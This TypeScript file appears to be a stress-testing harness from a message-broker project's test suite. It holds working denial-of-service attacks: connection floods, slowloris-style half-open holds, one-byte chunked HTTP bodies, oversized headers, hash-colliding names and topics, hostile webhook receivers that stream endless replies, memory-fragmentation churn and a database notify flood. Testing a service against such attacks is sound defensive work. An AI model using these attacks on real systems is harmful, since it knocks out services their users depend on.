/**
 * Attacks on a broker by one unauthenticated peer from one address, with bytes written by hand. An
 * attack prepares itself and returns a function that begins it; it continues until the process
 * ends.
 */
import { once } from 'node:events';
import { connect, createServer, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';

import { Client as Database } from 'pg';

import { secureRandom } from '../../src/core/random.js';
import { CurveClientMechanism } from '../../src/zmtp/curve/client.js';
import { loadSodium } from '../../src/zmtp/curve/sodium.js';
import {
  COMMAND,
  commandFrame,
  frame,
  greetingOf,
  HANDSHAKE,
  message,
  MORE,
  property,
  ready,
  Recorded,
} from '../unit/zmtp/wire.js';
import { COLLIDING_SETS, collidingKeys } from './collisions.js';
import { until } from './until.js';

const MESSAGE_LIMITS = { messageBytesMax: 1 << 24, framesMax: 256 } as const;
const REDIAL_MS = 500;
const BEGUN_MS_MAX = 10_000;
const DIALS_AT_ONCE = 100;
const DIAL_PAUSE_MS = 20;
const HEARTBEAT_MS = 1000;
const NAMES = 10_000;
const NAME_BYTES = 255;
const REPLY_BYTES = 12_000_000;
const DEAF_MS = 2000;
const DEAF_REPLY_BYTES = 1_000_000;
const CREDIT = '1000';
const HALF_OPEN_BYTES = 20;
const IDLE_SHARE = 5 / 6;
const TICK_MS = 10;
/** Requests of one worker that is lost: as many as its credit. */
const LOST_REQUESTS = 10_000;
const LOST_EVERY_MS = 1000;
/** The largest message that a broker takes by default. */
const UNFINISHED_BYTES = 2 ** 24;
const SUBSCRIPTIONS = 9000;
const TOPIC_BYTES = 240;
/** Keys of each set that is tried, and how many sets are tried twice. */
const SAMPLE = 2500;
const SLOW_SETS = 16;
/** Where the attacker receives webhooks, and what it answers: once, and then without end. */
const RECEIVERS = [
  { port: 47_811, first: '', then: 'HTTP/1.1 100 \r\n\r\n'.repeat(4000) },
  { port: 47_812, first: 'HTTP/1.1 200 OK\r\nx: ', then: 'x' },
  {
    port: 47_813,
    first: 'HTTP/1.1 500 \r\ntransfer-encoding: chunked\r\n\r\n',
    then: '1\r\nx\r\n',
  },
  { port: 47_814, first: '', then: '' },
] as const;
const LEAVING_MS = 500;
/** Requests that wait at a time. */
const WAITING_BYTES = 180 * 2 ** 20;
/** So many bytes of requests of one size come for each that stays. */
const STAYS_EVERY_BYTES = 2 ** 18;
/** Each size is in another class of the broker's memory than the one before. */
const SIZE_STEP = 1.25;
const SIZES = { least: 900, most: 16_000 } as const;
const SUBSCRIBE = Buffer.of(1);
const SUBSCRIBER = ready(property('Socket-Type', 'SUB'));

/** A token with the role `request`. */
export const HTTP_TOKEN = 'a-token-of-the-attacker';

/** The origin, target and progress of an attack. */
export class Site {
  /** How many connections, connections per second, or other things that the attack repeats. */
  readonly count: number;
  /** The broker's public key, in hexadecimal; empty without CURVE. */
  readonly serverKey: string;
  /** Messages or connections sent so far. */
  sent = 0;
  readonly target: string;
  readonly #endpoint: string;
  /** Its own. */
  readonly address: string;

  /** @param endpoint of the broker, if the target is another; otherwise empty */
  constructor(
    target: string,
    address: string,
    { count, serverKey, endpoint }: Pick<Site, 'count' | 'serverKey'> & { endpoint: string },
  ) {
    this.target = target;
    this.#endpoint = endpoint === '' ? target : endpoint;
    this.address = address;
    this.count = count;
    this.serverKey = serverKey;
  }

  /** @param reads false: it reads nothing from its connection */
  dial(handshake: Buffer, reads = true, to: string = this.target): Socket {
    const { hostname: host, port } = new URL(to.replace('tcp:', 'http:'));
    const socket = connect({ port: Number(port), host, localAddress: this.address });
    socket.on('error', () => undefined);
    if (reads) socket.on('data', () => undefined);
    else socket.pause();
    socket.write(handshake);
    return socket;
  }

  /** A peer that reads its messages one by one. */
  peer(told: (frames: readonly string[]) => void = () => undefined): Peer {
    return new Peer(this.dial(HANDSHAKE, true, this.#endpoint), told);
  }
}

/** A DEALER after its handshake; frames are written as latin-1 characters. */
class Peer {
  readonly socket: Socket;
  readonly #told: (frames: readonly string[]) => void;

  constructor(socket: Socket, told: (frames: readonly string[]) => void) {
    this.socket = socket;
    this.#told = told;
    // It only reads: its greeting was sent before.
    const wire = new Recorded(MESSAGE_LIMITS, 'DEALER', false);
    socket.on('data', (bytes: Buffer) => {
      wire.receive(bytes);
      wire.sent();
      wire.told.length = 0;
      for (const frames of wire.messages.splice(0)) this.#told(frames);
    });
  }

  readonly send = (...frames: readonly (string | Buffer)[]): void => {
    this.socket.write(message(...frames));
  };
}

/** A message of an MDP/0.2 client. */
function request(service: string | Buffer, ...body: readonly (string | Buffer)[]): Buffer {
  return message('', 'MDPC02', '\x01', service, ...body);
}

/** Sends one request over its own connection; returns the body of the answer. */
function ask(site: Site, service: string, ...body: readonly string[]): Promise<readonly string[]> {
  return new Promise((resolve, reject) => {
    const peer = site.peer((frames) => {
      peer.socket.destroy();
      resolve(frames.slice(4));
    });
    peer.socket.on('close', () => reject(new Error(`${service}: the connection was closed`)));
    peer.socket.write(request(service, ...body));
  });
}

async function stored(site: Site, ...body: readonly string[]): Promise<string> {
  const [status, uuid = ''] = await ask(site, 'titanic.request', ...body);
  if (status !== '200') throw new Error(`titanic.request: ${String(status)}`);
  return uuid;
}

interface FloodOptions {
  readonly connections: number;
  /** Bytes that are sent repeatedly, and how many messages they contain. */
  readonly batch: Buffer;
  readonly messages: number;
  readonly reads?: boolean;
}

/** Sends as fast as the other side reads; reconnects when closed. Resolves when all have begun. */
async function flood(site: Site, options: FloodOptions): Promise<void> {
  const { connections, batch, messages, reads = true } = options;
  const lane = (begun: () => void): void => {
    const socket = site.dial(HANDSHAKE, reads);
    const write = (): boolean =>
      socket.write(batch, (error?: Error | null) => {
        if (error) return;
        site.sent += messages;
        begun();
      });
    const send = (): void => {
      while (!socket.destroyed && write());
      socket.once('drain', send);
    };
    socket.on('close', () => {
      setTimeout(lane, REDIAL_MS, begun);
    });
    send();
  };
  await allBegun(connections, lane);
}

async function allBegun(count: number, begin: (begun: () => void) => void): Promise<void> {
  const each = Array.from({ length: count }, () => new Promise<void>(begin));
  await Promise.race([Promise.all(each), delay(BEGUN_MS_MAX)]);
}

function repeated(bytes: Buffer, times: number): Buffer {
  return Buffer.concat(Array.from({ length: times }, () => bytes));
}

/** A worker of the attacker, which registers again when it is disconnected. */
function worker(site: Site, service: string, answer: (peer: Peer, token: string) => void): void {
  const ready = (): void => peer.send('MDPW02', '\x01', service, CREDIT);
  const peer = site.peer((frames) => {
    const [, command, token = ''] = frames;
    if (command === '\x06') ready();
    else if (command === '\x02') answer(peer, token);
  });
  const heartbeat = setInterval(() => peer.send('MDPW02', '\x05'), HEARTBEAT_MS);
  peer.socket.on('close', () => {
    clearInterval(heartbeat);
    setTimeout(worker, REDIAL_MS, site, service, answer);
  });
  ready();
}

async function untilServed(site: Site, service: string): Promise<void> {
  await until(
    async () => (await ask(site, 'mmi.service', service))[0] === '200',
    `a worker of ${service}`,
  );
}

/**
 * Keeps `count` connections that each begin with these bytes; dials again those that are closed.
 */
async function hold(site: Site, bytes: readonly Buffer[]): Promise<void> {
  let waiting = bytes.length;
  const one = (handshake: Buffer): void => {
    const socket = site.dial(handshake);
    let isNew = true;
    const known = (): void => {
      if (isNew) waiting--;
      isNew = false;
    };
    socket.once('connect', () => {
      site.sent++;
      known();
    });
    socket.once('close', () => {
      known();
      setTimeout(one, REDIAL_MS * (1 + Math.random()), handshake);
    });
  };
  for (let at = 0; at < bytes.length; at += DIALS_AT_ONCE) {
    for (const handshake of bytes.slice(at, at + DIALS_AT_ONCE)) one(handshake);
    await delay(DIAL_PAUSE_MS);
  }
  const deadline = performance.now() + BEGUN_MS_MAX;
  while (waiting > 0 && performance.now() < deadline) await delay(DIAL_PAUSE_MS);
}

/** Opens `count` connections per second that send only this, until the other side closes them. */
function comeSilently(site: Site, handshake: Buffer): void {
  const began = performance.now();
  setInterval(() => {
    const due = ((performance.now() - began) / 1000) * site.count;
    for (; site.sent < due; site.sent++) site.dial(handshake);
  }, TICK_MS);
}

async function hello(serverKey: string): Promise<Buffer> {
  const crypto = await loadSodium();
  const { publicKey, secretKey } = crypto.keyPair();
  const mechanism = new CurveClientMechanism({
    crypto,
    random: secureRandom,
    socketType: 'DEALER',
    identity: Buffer.alloc(0),
    serverKey: Buffer.from(serverKey, 'hex'),
    publicKey,
    secretKey,
  });
  return frame(COMMAND, mechanism.begin());
}

/**
 * Keeps `count` HTTP connections that send a head and then go on with the rest; those that are closed come
 * again at once.
 */
function pour(site: Site, head: Buffer, rest: Buffer): Promise<void> {
  const lane = (begun: () => void): void => {
    const socket = site.dial(head);
    const send = (): void => {
      while (!socket.destroyed && socket.write(rest)) site.sent++;
      socket.once('drain', send);
    };
    socket.once('connect', () => {
      begun();
      send();
    });
    socket.once('close', () => setTimeout(lane, TICK_MS, begun));
  };
  return allBegun(site.count, lane);
}

function httpHead(...lines: readonly string[]): Buffer {
  return Buffer.from([...lines, '', ''].join('\r\n'));
}

const CRUMBS = repeated(Buffer.from('1\r\nx\r\n'), 4096);

/** A subscriber to as many long topics as a connection may have. */
function manyTopics(site: Site, prefix: string): Buffer {
  const topics = Array.from({ length: SUBSCRIPTIONS }, (_, at) => {
    site.sent++;
    return message(`\x01${prefix}${at}`.padEnd(1 + TOPIC_BYTES, '.'));
  });
  return Buffer.concat([greetingOf(), SUBSCRIBER, ...topics]);
}

/** Requests for services whose names are such keys, and one more. */
export function collidingNames(set: number, count: number): Buffer {
  const requests = collidingKeys(set, count).map((key) => request(key, 'x'));
  return Buffer.concat([...requests, request('mmi.service', 'x')]);
}

/** Subscriptions to topics that are such keys, and a question. */
export function collidingTopics(set: number, count: number, from = 0): Buffer {
  const topics = collidingKeys(set, count, from).map((key) => Buffer.concat([SUBSCRIBE, key]));
  return Buffer.concat([...topics.map((each) => message(each)), commandFrame('PING', '\0\0')]);
}

/** Sends `collidingNames`, and leaves when the last one is answered. */
export function nameAll(site: Site, names: Buffer): Promise<unknown> {
  const { socket } = site.peer(() => socket.resetAndDestroy());
  socket.write(names);
  return once(socket, 'close');
}

/** Sends `collidingTopics` to the target, and leaves when the last one is answered. */
export function subscribeAll(site: Site, topics: Buffer): Promise<unknown> {
  const socket = site.dial(Buffer.concat([greetingOf(), SUBSCRIBER, topics]));
  socket.on('data', (answer: Buffer) => {
    if (answer.includes('PONG')) socket.resetAndDestroy();
  });
  return once(socket, 'close');
}

/** The set of colliding keys that takes longest: first all are tried, then the slowest again. */
async function slowestSet(take: (set: number) => Promise<unknown>): Promise<number> {
  let sets = Array.from({ length: COLLIDING_SETS }, (_, set) => ({ set, tookMs: 0 }));
  for (const most of [SLOW_SETS, 1]) {
    for (const each of sets) {
      const began = performance.now();
      await take(each.set);
      each.tookMs = performance.now() - began;
      // What the last one leaves behind takes time, too.
      await delay(TICK_MS);
    }
    sets = sets.sort((left, right) => right.tookMs - left.tookMs).slice(0, most);
  }
  return sets[0]?.set ?? 0;
}

/** Prepares an attack, and returns a function that begins it. */
export type Attack = (
  site: Site,
) => Promise<() => Promise<void> | void> | (() => Promise<void> | void);

const CURVE_GREETING = greetingOf({ mechanism: 'CURVE' });

/** Stores one request for each of so many services, with long names. */
async function storedServices(site: Site, count: number): Promise<void> {
  let answered = 0;
  const peer = site.peer(() => answered++);
  for (let at = 0; at < count; at++) {
    const name = String(at).padEnd(NAME_BYTES, '\x01');
    peer.send('', 'MDPC02', '\x01', 'titanic.request', name, 'x');
  }
  await until(() => answered >= count, `${count} stored services`);
  peer.socket.destroy();
}

export const ATTACKS = {
  /** Only a process that computes: the effect of the machine itself on those who wait. */
  computing: () => () => {
    const compute = (): void => {
      const until = performance.now() + TICK_MS;
      while (performance.now() < until);
      setImmediate(compute);
    };
    compute();
  },

  /** Cheap valid messages; the peer reads its replies. */
  cheap: (site) => () => {
    const messages = 4000;
    const batch = repeated(message('', 'MDPC01', 'mmi.service', 'x'), messages);
    return flood(site, { connections: site.count, batch, messages });
  },

  /** Queries for the list of services, of which there are 10,000. */
  services: async (site) => {
    const namer = site.peer();
    for (let name = 0; name < NAMES; name++) {
      namer.send('', 'MDPC02', '\x01', `a service that is named ${name}`, 'x');
    }
    const named = async (): Promise<number> => {
      let known = 0;
      for (let cursor = ''; ;) {
        const more = cursor === '' ? [] : [JSON.stringify({ cursor })];
        const [, json = '[]', next] = await ask(site, 'mmi.services', '', ...more);
        known += (JSON.parse(json) as unknown[]).length;
        if (next === undefined) return known;
        cursor = next;
      }
    };
    await until(async () => (await named()) >= NAMES, `${NAMES} services`);
    const messages = 200;
    const batch = repeated(message('', 'MDPC01', 'mmi.services', ''), messages);
    return () => flood(site, { connections: site.count, batch, messages });
  },

  /** Scrapes of a thousand services with long names, which nobody reads. */
  scrapes: async (site) => {
    await storedServices(site, 1000);
    const head = httpHead('GET /metrics HTTP/1.1', 'Host: localhost');
    return () => {
      for (; site.sent < site.count; site.sent++) site.dial(head, false);
    };
  },

  /** Counts of 5,000 stored services, again and again. */
  counts: async (site) => {
    await storedServices(site, 5000);
    const head = httpHead('GET /api/v1/titanic/counts HTTP/1.1', 'Host: localhost');
    return () => pour(site, head, head);
  },

  /** Waits for one stored request without a worker; each ends after a second and is repeated. */
  waits: async (site) => {
    const uuid = await stored(site, 'a service that nobody offers', 'x');
    const messages = 1000;
    const batch = repeated(request('titanic.wait', uuid, '1000'), messages);
    return () => flood(site, { connections: site.count, batch, messages });
  },

  /** Queries for one stored reply of 12 MB; every second connection does not read the answers. */
  questions: async (site) => {
    const large = Buffer.alloc(REPLY_BYTES, 'x');
    worker(site, 'large', (peer, token) => peer.send('MDPW02', '\x04', token, '', large));
    await untilServed(site, 'large');
    const uuid = await stored(site, 'large', 'x');
    await until(
      async () => (await ask(site, 'titanic.wait', uuid, '1000'))[0] === '200',
      'the stored reply',
    );
    const messages = 240;
    const batch = repeated(request('titanic.reply', uuid), messages);
    const half = { connections: site.count / 2, batch, messages };
    return async () => {
      await Promise.all([flood(site, half), flood(site, { ...half, reads: false })]);
    };
  },

  /** Peers that do not read their replies of 1 MB, which the attacker's own worker sends. */
  deaf: async (site) => {
    const large = Buffer.alloc(DEAF_REPLY_BYTES, 'x');
    worker(site, 'loud', (peer, token) => peer.send('MDPW02', '\x04', token, '', large));
    await untilServed(site, 'loud');
    const question = request('loud', 'x');
    const first = 200;
    const come = (begun: () => void): void => {
      const socket = site.dial(HANDSHAKE, false);
      socket.write(repeated(question, first), begun);
      site.sent += first;
      // A peer that does not read notices only on writing that it was closed.
      const more = setInterval(() => {
        socket.write(question);
        site.sent++;
      }, TICK_MS);
      socket.once('close', () => {
        clearInterval(more);
        setTimeout(come, REDIAL_MS, begun);
      });
    };
    return () => allBegun(site.count, come);
  },

  /** Parts of many small frames, which the broker joins for 0.1 clients. */
  partials: async (site) => {
    const frames = Buffer.concat([repeated(frame(MORE, 'x'), 199), frame(0, 'x')]);
    const parts = 100;
    worker(site, 'parts', (peer, token) => {
      const head = ['MDPW02', '\x03', token, ''].map((bytes) => frame(MORE, bytes));
      const partial = Buffer.concat([...head, frames]);
      peer.socket.write(repeated(partial, parts));
      peer.send('MDPW02', '\x04', token, '', 'end');
      site.sent += parts + 1;
    });
    await untilServed(site, 'parts');
    const question = message('', 'MDPC01', 'parts', 'x');
    return () => {
      for (let client = 0; client < site.count; client++) {
        const socket = site.dial(Buffer.concat([HANDSHAKE, repeated(question, 50)]));
        setInterval(() => {
          if (socket.writableLength === 0) socket.write(question);
        }, TICK_MS);
      }
    };
  },

  /**
   * Parts of 100 empty frames for programs over HTTP, which want them joined, as parts, or as events; of those, half
   * read nothing.
   */
  smallParts: async (site) => {
    const frames = Buffer.concat([repeated(frame(MORE, ''), 99), frame(0, '')]);
    const [batches, parts] = [300, 100];
    let sending = Promise.resolve();
    worker(site, 'small', ({ socket, send }, token) => {
      const head = ['MDPW02', '\x03', token, ''].map((bytes) => frame(MORE, bytes));
      const batch = repeated(Buffer.concat([...head, frames]), parts);
      const answer = async (): Promise<void> => {
        for (let sent = 0; sent < batches && !socket.destroyed; sent++) {
          await new Promise<unknown>((resolve) => socket.write(batch, resolve));
          site.sent += parts;
        }
        send('MDPW02', '\x04', token, '', 'end');
      };
      sending = sending.then(answer);
    });
    await untilServed(site, 'small');
    const types = ['*/*', 'multipart/mixed', 'text/event-stream', 'text/event-stream'];
    const ask = (at: number): void => {
      const head = httpHead(
        'POST /api/v1/services/small/requests HTTP/1.1',
        ...['Host: localhost', 'Connection: close', 'Content-Length: 0'],
        `Authorization: Bearer ${HTTP_TOKEN}`,
        `Accept: ${types[at % types.length] ?? ''}`,
      );
      const isDeaf = at % types.length === types.length - 1;
      const socket = site.dial(head, !isDeaf);
      socket.once('close', () => setTimeout(ask, TICK_MS, at));
      // It does not notice that it was closed.
      if (isDeaf) setTimeout(() => socket.destroy(), DEAF_MS);
    };
    return () => {
      for (let at = 0; at < site.count; at++) ask(at);
    };
  },

  /** CURVE connections that send a greeting and then nothing. */
  silent: (site) => () => comeSilently(site, CURVE_GREETING),

  /** CURVE connections that are silent after their HELLO. */
  hellos: async (site) => {
    const handshake = Buffer.concat([CURVE_GREETING, await hello(site.serverKey)]);
    return () => comeSilently(site, handshake);
  },

  /** Connections that complete their handshake and then do nothing. */
  idle: (site) => () => hold(site, new Array<Buffer>(site.count).fill(HANDSHAKE)),

  /** Of each six connections, five do nothing and one stops in its greeting. */
  halfOpen: (site) => () => {
    const half = greetingOf().subarray(0, HALF_OPEN_BYTES);
    const idle = Math.round(site.count * IDLE_SHARE);
    return hold(
      site,
      Array.from({ length: site.count }, (_, at) => (at < idle ? HANDSHAKE : half)),
    );
  },

  /** Connections that each send a large message but for its last byte. */
  unfinished: (site) => () => {
    const body = Buffer.alloc(UNFINISHED_BYTES - 1);
    const bytes = Buffer.concat([HANDSHAKE, frame(0, body, BigInt(UNFINISHED_BYTES))]);
    return hold(site, new Array<Buffer>(site.count).fill(bytes));
  },

  /** Workers with 10,000 requests each whose connections are reset together, with their client's; again and again. */
  lost: (site) => () => {
    const requests = repeated(request('lost', 'x'), LOST_REQUESTS);
    const round = (): void => {
      const client = site.dial(HANDSHAKE);
      const workers = Array.from({ length: site.count }, () => {
        client.write(requests);
        const socket = site.dial(HANDSHAKE);
        socket.write(message('MDPW02', '\x01', 'lost', String(LOST_REQUESTS)));
        return socket;
      });
      site.sent += site.count * LOST_REQUESTS;
      setTimeout(() => {
        for (const socket of [client, ...workers]) socket.resetAndDestroy();
        setImmediate(round);
      }, LOST_EVERY_MS);
    };
    round();
  },

  /** Subscribers to every step of every request; at `events.listen`. */
  subscribers: (site) => () => {
    const all = message('\x01request.');
    return hold(
      site,
      new Array<Buffer>(site.count).fill(Buffer.concat([greetingOf(), SUBSCRIBER, all])),
    );
  },

  /** Long topics, as many as a connection may have; at `events.listen`. */
  topics: (site) => () => hold(site, new Array<Buffer>(site.count).fill(manyTopics(site, ''))),

  /** The same, but each connection has topics of its own and leaves at once, for another one. */
  leaving: (site) => () => {
    const come = (begun: () => void): void => {
      const socket = site.dial(manyTopics(site, `${site.sent} `));
      const leave = (): void => {
        socket.resetAndDestroy();
      };
      socket.once('drain', () => {
        begun();
        setTimeout(leave, LEAVING_MS * Math.random());
      });
      socket.once('close', () => {
        setTimeout(come, TICK_MS, begun);
      });
    };
    return allBegun(site.count, come);
  },

  /**
   * Names of services over one connection, and topics over `count` others, that come and go and were made to collide.
   * Which of the sets do so here is found by the time that they take. At `events.listen`.
   */
  prepared: async (site) => {
    const nameSet = await slowestSet((set) => nameAll(site, collidingNames(set, SAMPLE)));
    const topicSet = await slowestSet((set) => subscribeAll(site, collidingTopics(set, SAMPLE)));
    return () => {
      const again = (act: () => Promise<unknown>): void => {
        void act().then(() => {
          site.sent += SUBSCRIPTIONS;
          setTimeout(again, TICK_MS, act);
        });
      };
      const names = collidingNames(nameSet, SUBSCRIPTIONS);
      again(() => nameAll(site, names));
      for (let at = 0; at < site.count; at++) {
        const topics = collidingTopics(topicSet, SUBSCRIPTIONS, at * SUBSCRIPTIONS);
        again(() => subscribeAll(site, topics));
      }
    };
  },

  /** Schedules of every second, with as many spellings of their time zones as there are. */
  schedules: (site) => () => {
    const ZONES = ['utc', 'europe/berlin', 'america/new_york', 'asia/kolkata', '+05:30'];
    let named = 0;
    const batch = (): Buffer =>
      Buffer.concat(
        Array.from({ length: 100 }, () => {
          const number = named++;
          const zone = (ZONES[number % ZONES.length] ?? '').replace(
            /[a-z]/g,
            (letter, at: number) =>
              (number >> (at % 30)) % 2 === 0 ? letter : letter.toUpperCase(),
          );
          const options = { name: `s${number}`, cron: '* * * * * *', timeZone: zone };
          return request('titanic.schedule', JSON.stringify(options), 'nobody', 'x');
        }),
      );
    for (let connection = 0; connection < site.count; connection++) {
      const socket = site.dial(HANDSHAKE);
      setInterval(() => {
        if (socket.writableLength > 0) return;
        socket.write(batch());
        site.sent += 100;
      }, TICK_MS);
    }
  },

  /** Requests with keys of their own, which are closed at once: only the keys stay. */
  keys: (site) => () => {
    let key = 0;
    const one = (): void => {
      const peer = site.peer((frames) => {
        const [status, uuid = ''] = frames.slice(4);
        if (frames[3] === 'titanic.submit' && status === '200') {
          peer.socket.write(request('titanic.close', uuid));
        } else {
          submit();
        }
      });
      const submit = (): void => {
        const options = JSON.stringify({ key: `${key++}`.padStart(TOPIC_BYTES, 'k') });
        peer.socket.write(request('titanic.submit', options, 'nobody', 'x'));
        site.sent++;
      };
      for (let at = 0; at < 100; at++) submit();
    };
    for (let connection = 0; connection < site.count; connection++) one();
  },

  /** Bodies of programs over HTTP in chunks of one byte; each chunk costs much more. */
  crumbs: (site) => () =>
    pour(
      site,
      httpHead(
        'POST /api/v1/services/honest-0/requests HTTP/1.1',
        'Host: localhost',
        `Authorization: Bearer ${HTTP_TOKEN}`,
        'Transfer-Encoding: chunked',
      ),
      CRUMBS,
    ),

  /** The same without a token, where no body is expected. */
  strangersCrumbs: (site) => () =>
    pour(
      site,
      httpHead('GET /livez HTTP/1.1', 'Host: localhost', 'Transfer-Encoding: chunked'),
      CRUMBS,
    ),

  /** Heads over HTTP with as many fields as fit. */
  fields: (site) => () => {
    const head = httpHead('GET /livez HTTP/1.1', ...new Array<string>(2600).fill('a:b'));
    return pour(site, head, head);
  },

  /** Heads over HTTP whose path, query and cookies cost most to take apart. */
  paths: (site) => () => {
    const heads = [
      httpHead(`GET ${'/'.repeat(16_000)} HTTP/1.1`, 'Host: localhost'),
      httpHead(`GET /${'%41'.repeat(5300)} HTTP/1.1`, 'Host: localhost'),
      httpHead(`GET /api/v1/status?${'a&'.repeat(8000)} HTTP/1.1`, 'Host: localhost'),
      httpHead('GET /livez HTTP/1.1', `Cookie: ${'a=b; '.repeat(3000)}`),
    ];
    return pour(site, Buffer.concat(heads), Buffer.concat(heads));
  },

  /** Requests over HTTP that are sent without waiting for answers. */
  pipelined: (site) => () => {
    const head = httpHead('GET /livez HTTP/1.0', 'Connection: keep-alive');
    return pour(site, head, repeated(head, 1000));
  },

  /** Requests that end at once, each with a webhook to a receiver of the attacker. */
  webhooks: async (site) => {
    for (const { port, first, then } of RECEIVERS) {
      const server = createServer((socket) => {
        site.sent++;
        socket.on('error', () => undefined);
        const more = (): void => {
          if (socket.destroyed || then === '') return;
          if (socket.write(then)) setImmediate(more);
          else socket.once('drain', more);
        };
        socket.setNoDelay().once('data', () => {
          socket.write(first);
          more();
        });
      });
      await once(server.listen(port, site.address), 'listening');
    }
    const closes: Buffer[] = [];
    const peer = site.peer((frames) => {
      const [status, uuid = ''] = frames.slice(4);
      if (status === '200') closes.push(request('titanic.close', uuid));
    });
    for (let at = 0; at < site.count; at++) {
      const { port = 0 } = RECEIVERS[at % RECEIVERS.length] ?? {};
      const options = JSON.stringify({ webhook: `http://${site.address}:${port}/` });
      peer.socket.write(request('titanic.submit', options, 'nobody', 'x'));
    }
    await until(() => closes.length === site.count, `${site.count} requests with webhooks`);
    return () => {
      site.dial(Buffer.concat([HANDSHAKE, ...closes]));
    };
  },

  /**
   * Requests that wait, of one size after another: nearly all of a size leave with their connection, and few stay, so
   * that each page of memory of that size keeps one.
   */
  pages: (site) => async () => {
    const staying = site.dial(HANDSHAKE);
    const sizes: number[] = [];
    for (let size: number = SIZES.most; size > SIZES.least; size /= SIZE_STEP) sizes.push(size);
    const written = (socket: Socket, bytes: Buffer): Promise<void> =>
      new Promise((resolve) => {
        socket.write(bytes, () => resolve());
        site.sent++;
      });
    const rounds = async (begun: () => void): Promise<void> => {
      for (let round = 0; ; round++) {
        const size = sizes[round % sizes.length] ?? SIZES.most;
        const one = request(`pages-${round}`, Buffer.alloc(size - 100));
        const others = repeated(one, Math.floor(STAYS_EVERY_BYTES / size) - 1);
        const leaving = site.dial(HANDSHAKE);
        for (let bytes = 0; bytes < WAITING_BYTES; bytes += STAYS_EVERY_BYTES) {
          await written(leaving, others);
          await written(staying, one);
        }
        begun();
        leaving.end();
        await delay(LEAVING_MS);
      }
    };
    await new Promise<void>((resolve) => void rounds(resolve));
  },

  /** Requests of 1 KB to store, as fast as the broker reads them. */
  durable: (site) => () => {
    const messages = 100;
    const body = Buffer.alloc(1024, 'x');
    const batch = repeated(request('titanic.request', 'nobody', body), messages);
    return flood(site, { connections: site.count, batch, messages });
  },

  /** Hints to brokers, by a role of their database that may only connect; the target is that. */
  hints: (site) => async () => {
    const messages = 2000;
    // Of a service and a request that differ: PostgreSQL leaves out what is the same.
    const statement = `SELECT count(pg_notify('majordomo', encode('\\x000104'::bytea || int4send(n) || '\\x0000'::bytea
      || int4send((random() * 1e9)::integer), 'base64'))) FROM generate_series(1, ${messages}) n`;
    const lane = async (): Promise<void> => {
      const database = new Database(site.target);
      await database.connect();
      const again = async (): Promise<void> => {
        await database.query(statement);
        site.sent += messages;
        void again();
      };
      await again();
    };
    await Promise.all(Array.from({ length: site.count }, lane));
  },
} satisfies Readonly<Record<string, Attack>>;

/** Where webhooks of the attack go to. */
export const HOSTILE_RECEIVERS: readonly string[] = RECEIVERS.map(
  ({ port }) => `http://127.0.0.2:${port}`,
);

export type AttackName = keyof typeof ATTACKS;
